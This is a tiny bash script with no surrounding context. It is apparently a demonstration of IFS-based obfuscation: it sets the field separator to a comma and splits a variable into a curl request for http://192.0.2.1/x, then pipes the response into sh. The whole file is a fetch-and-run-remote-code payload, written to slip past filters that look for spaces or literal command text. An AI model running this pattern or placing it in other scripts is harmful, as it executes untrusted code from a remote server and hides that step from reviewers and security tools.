#!/bin/bash
IFS=,
command=curl,-s,http://192.0.2.1/x
$command | sh
